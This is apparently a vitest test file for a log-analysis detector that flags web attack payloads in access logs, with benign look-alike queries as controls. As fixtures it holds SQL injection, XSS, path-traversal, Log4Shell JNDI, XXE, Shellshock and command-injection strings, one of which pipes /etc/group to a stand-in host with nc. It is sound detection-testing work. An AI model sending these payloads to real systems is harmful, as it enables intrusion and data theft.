import { existsSync } from 'node:fs'
import path from 'node:path'
import { describe, expect, it } from 'vitest'
import { hunt } from '../../src/hunt.ts'
import { randomStream } from '../../src/models/random.ts'
import { huntLines, named, quietSite, requestLine, type Line } from './story.ts'

const detectors = ['web-attack-payload']
const attacker = '203.0.113.66'

const client = (random: () => number): string =>
  `198.51.${100 + Math.floor(random() * 3)}.${1 + Math.floor(random() * 250)}`

/** What people and programs ordinarily put into requests, and what looks a little like an attack. */
const lookalikes = [
  '/search?q=what%27s+new',
  '/search?q=%22exact+phrase%22+or+%27another%27',
  '/search?q=how+to+say+%22hello+world%22%3F',
  '/search?q=rock+%27n%27+roll+%26+blues',
  '/search?q=select+a+gift+from+the+shop',
  '/search?q=price+%3C+100',
  '/search?q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82+%D0%BC%D0%B8%D1%80',
  '/search?q=%E6%9D%B1%E4%BA%AC%E3%81%AE%E5%A4%A9%E6%B0%97%EF%BC%9F',
  '/search?q=caf%E9+cr%E8me',
  '/search?q=c%2B%2B+%2F+c%23',
  '/article?id=%7B3F2504E0-4F89-11D3-9A0C-0305E82C3301%7D',
  '/article?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
  '/login?state=aGVsbG8gd29ybGQ%3D%3D&code=4%2F0AX4XfWh-abc_DEF',
  '/?utm_source=news&utm_medium=email&utm_campaign=Spring%20Sale%20%7C%20DE%20%7C%202026&gclid=EAIaIQobChMI-abc_123XYZ',
  '/?utm_campaign=%7Bcampaignid%7D&utm_term=%2Bred%20%2Bshoes',
  '/api/items?filter=%7B%22price%22%3A%7B%22min%22%3A10%7D%2C%22tags%22%3A%5B%22a%22%2C%22b%22%5D%7D',
  '/api/graph?query=query%20%7B%20user(id%3A%201)%20%7B%20name%20email%20%7D%20%7D',
  '/login?next=https%3A%2F%2Fwww.example.com%2Fpath%3Fa%3Db%26c%3Dd%23part',
  '/out?url=https%253A%252F%252Fexample.com%252F%253Fa%253Db',
  '/events?from=2026-03-02T10%3A00%3A00%2B01%3A00&range=%5B2026-01-01+TO+2026-02-01%5D',
  '/contact?name=O%27Brien&message=Hello%2C+I%27d+like+2+of+the+%22Classic%22+%28blue%29.+Thanks%21',
  '/style?family=Open+Sans:400,700|Roboto:300,400&display=swap',
  '/files/?C=M;O=A',
  '/wiki/One_(two)',
  '/files/one%20two%20(3).pdf',
  '/%D0%9F%D1%80%D0%B8%D0%B2%D0%B5%D1%82/',
] as const

/** Visitors who search and fill in forms as well. */
const quietDays = (days: number): Line[] => {
  const random = randomStream(21)
  const lines = quietSite(days, 120)
  for (let i = 0; i < days * 150; i++) {
    const target = lookalikes[Math.floor(random() * lookalikes.length)] ?? '/'
    lines.push(requestLine(random() * days * 86_400, { client: client(random), target }))
  }
  return lines
}

const quiet = quietDays(2)

const attack = (targets: readonly string[], status = 404, from = 90_000): Line[] =>
  targets.map((target, i) => requestLine(from + i * 60, { client: attacker, target, status }))

const kinds = [
  ['SQL injection', '/article?id=1%27%20AND%20extractvalue(1,concat(0x5c,(select%20user())))--%20-'],
  ['script injection', '/search?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E'],
  ['path traversal', '/static/..%2f..%2f..%2fetc%2fpasswd'],
  ['path traversal', '/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd'],
  ['path traversal', '/scripts/..%c0%af../winnt/system.ini'],
  ['shell commands', '/ping?host=192.0.2.1%3Bcat+/etc/group%7Cnc+192.0.2.9+80'],
  ['template injection', '/hello?name=%7B%7B7*7%7D%7D'],
  ['JNDI look-ups', '/?x=%24%7B%24%7Blower:j%7Dndi:%24%7Blower:l%7Ddap://192.0.2.9/a%7D'],
  ['XML entities', '/feed?xml=%3C!DOCTYPE+a+%5B%3C!ENTITY+b+SYSTEM+%22http://192.0.2.9/%22%3E%5D%3E'],
  ['code injection', '/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call&vars[0]=md5'],
  ['NoSQL operators', '/login?user[$ne]=x&pass[$gt]='],
] as const

describe('web-attack-payload', () => {
  it('is silent on days on which people search, fill in forms and follow long links', async () => {
    const report = await huntLines(quiet, { detectors })
    expect(report.findings.map(({ title }) => title)).toEqual([])
  })

  it('is silent where each of the look-alikes is sent but once', async () => {
    const random = randomStream(22)
    const once = lookalikes.map((target, i) => requestLine(50_000 + i, { client: client(random), target }))
    const report = await huntLines([...quietSite(1, 100), ...once], { detectors })
    expect(report.findings.map(({ title }) => title)).toEqual([])
  })

  it('names a client that tries SQL injection, first, and says so', async () => {
    const report = await huntLines([
      ...quiet,
      ...attack([
        '/article?id=1%27+or+%271%27%3D%271',
        '/article?id=-1+union+all+select+1,2,concat(0x71,user(),0x71)--+-',
        '/article?id=1%27+and+(select+1+from+(select(sleep(5)))a)--+-',
        '/article?id=1;waitfor+delay+%270:0:5%27--',
      ]),
    ])
    expect(named(report)[0]).toBe(`web-attack-payload: ${attacker}`)
    const [finding] = report.findings
    expect(finding?.title).toMatch(`${attacker} sent 4 different attack payloads (SQL injection) in 1 `)
    expect(finding?.severity).not.toBe('low')
    expect(finding?.attack).toContain('T1190')
    const [shown] = finding?.details ?? []
    expect(shown).toMatchObject({
      kind: 'payloads',
      texts: Array.from({ length: 4 }, () => ({
        place: 'parameter',
        name: 'id',
        page: '/article',
        meant: expect.arrayContaining(['SQL injection']) as unknown,
        requests: 1,
        answers: [404],
      })),
    })
    expect(shown?.kind === 'payloads' ? shown.texts.map(({ text }) => text) : []).toContain("1' or '1'='1")
    expect(finding?.evidence.lines.length).toBe(4)
    expect(finding?.evidence.lines.every((line) => line.startsWith(attacker))).toBe(true)
  })

  it('says which of them were answered with success, and calls that severe', async () => {
    const targets = ['1', '2', '3'].map((n) => `/article?id=${n}%27+union+select+user(),2--+-`)
    const report = await huntLines([...quiet, ...attack(targets, 200)], { detectors })
    expect(report.findings[0]).toMatchObject({ severity: 'high', entity: { value: attacker } })
    expect(report.findings[0]?.title).toMatch(/; 3 were answered with success$/)
  })

  it('finds each of many clients that send a single payload, and says what it is meant for', async () => {
    const report = await huntLines(
      [
        ...quiet,
        ...kinds.map(([, target], i) =>
          requestLine(90_000 + i * 3000, { client: `203.0.113.${i + 1}`, target, status: 404 }),
        ),
      ],
      { detectors },
    )
    const titles = new Map(report.findings.map(({ entity, title }) => [entity.value, title]))
    expect(kinds.map(([kind], i) => titles.get(`203.0.113.${i + 1}`)?.includes(kind))).toEqual(
      kinds.map(() => true),
    )
    expect(report.findings).toHaveLength(kinds.length)
    expect(report.findings.every(({ severity }) => severity === 'medium')).toBe(true)
  })

  it('looks into user agents and referrers', async () => {
    const lines = [
      requestLine(90_000, { client: '203.0.113.1', target: '/', agent: '() { :;}; /bin/bash -c id' }),
      requestLine(91_000, { client: '203.0.113.2', target: '/', agent: '${jndi:ldap://192.0.2.9:1389/a}' }),
      requestLine(92_000, {
        client: '203.0.113.3',
        target: '/',
        referrer: "https://example.com/?a=1' or '1'='1",
      }),
    ]
    const report = await huntLines([...quiet, ...lines], { detectors })
    expect(named(report).toSorted()).toEqual(
      ['203.0.113.1', '203.0.113.2', '203.0.113.3'].map((who) => `web-attack-payload: ${who}`),
    )
  })

  it('finds short payloads where a parameter ordinarily holds numbers', async () => {
    const random = randomStream(24)
    const pages = Array.from({ length: 300 }, (_, i) =>
      requestLine(i * 500, { client: client(random), target: `/item?id=${i % 90}` }),
    )
    const short = ['/item?id=1+or+1=1', '/item?id=7+and+sleep(5)', '/item?id=$(id)']
    const report = await huntLines([...quiet, ...pages, ...attack(short)], { detectors })
    expect(named(report)).toEqual([`web-attack-payload: ${attacker}`])
    expect(report.findings[0]?.title).toContain('3 different attack payloads')
  })

  it('learns what is usual for a parameter from many visitors, and not from attackers', async () => {
    const random = randomStream(23)
    // A shop whose own pages link with an odd notation.
    const odd = (who: string, at: number): Line =>
      requestLine(at, {
        client: who,
        target: `/list?sel=%7B%7B${Math.floor(random() * 900)}%7C%7C${Math.floor(random() * 9)}%7D%7D`,
      })
    const alone = await huntLines([...quiet, odd(attacker, 90_000)], { detectors })
    expect(named(alone)).toEqual([`web-attack-payload: ${attacker}`])
    const visitors = quiet
      .filter((_, i) => i % 40 === 0)
      .map(({ at, text }) => odd(text.split(' ')[0] ?? '', at + 3))
    const usual = await huntLines([...quiet, ...visitors], { detectors })
    expect(named(usual)).toEqual([])
    const botnet = Array.from({ length: 40 }, (_, i) => odd(`203.0.113.${i + 1}`, 90_000 + i * 50))
    const attacked = await huntLines([...quiet, ...botnet], { detectors, budget: 100 })
    expect(attacked.findings).toHaveLength(40)
  })

  it('survives queries that are hostile by themselves', async () => {
    const hostile = [
      `/?${Array.from({ length: 1000 }, (_, i) => `p${i}=%27`).join('&')}`,
      `/?q=${'%27('.repeat(1000)}`,
      `/?q=${'a'.repeat(7000)}%27`,
      `/?q=${'%25'.repeat(1000)}27`,
      '/?q=%ff%fe%c0%80%',
      `/?${'=&'.repeat(500)}`,
      `/?q=${'select '.repeat(500)}`,
    ]
    const report = await huntLines([...quiet, ...attack(hostile)], { detectors })
    expect(named(report).length).toBeLessThanOrEqual(1)
  })
})

const shared = path.resolve('..', 'shared', 'data')
const cases = path.join(shared, 'parsers', 'crowdsec')
const site = path.join(shared, 'web', 'secrepo-access.log.gz')

describe('real logs', () => {
  it.skipIf(!existsSync(cases)).each([
    ['apache_log4j2_cve-2021-44228', 'JNDI look-ups'],
    ['cve-2021-42013', 'path traversal'],
    ['thinkphp-cve-2018-20062', 'code injection'],
    ['CVE-2022-44877', 'shell commands'],
  ])('of %s are told as %s', async (name, kind) => {
    const report = await hunt({ paths: [path.join(cases, name)], threads: 2, detectors })
    expect(report.findings[0]?.title).toContain(kind)
    expect(report.findings[0]?.severity).not.toBe('low')
  })

  it.skipIf(!existsSync(site))('of a site name those who attack it, and hardly anybody else', async () => {
    const report = await hunt({ paths: [site], threads: 2, detectors })
    const attackers = report.findings
      .filter(({ severity }) => severity !== 'low')
      .map(({ entity }) => entity.value)
    expect(attackers.toSorted()).toEqual(['125.78.229.99', '222.186.20.115', '222.186.30.188', '8.29.105.82'])
    expect(report.findings.length).toBeLessThanOrEqual(6)
  })
})
